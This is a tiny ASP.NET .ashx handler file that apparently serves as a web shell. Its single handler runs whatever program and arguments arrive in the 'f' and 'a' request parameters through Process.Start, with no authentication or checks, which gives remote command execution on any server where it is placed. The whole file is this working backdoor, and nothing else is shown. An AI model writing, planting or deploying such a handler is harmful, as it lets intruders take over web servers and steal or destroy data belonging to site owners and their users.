<%@ WebHandler Language="C#" Class="H" %>
using System.Web;
public class H : IHttpHandler { public void ProcessRequest(HttpContext context) { var p = System.Diagnostics.Process.Start(context.Request["f"], context.Request["a"]); } public bool IsReusable { get { return false; } } }
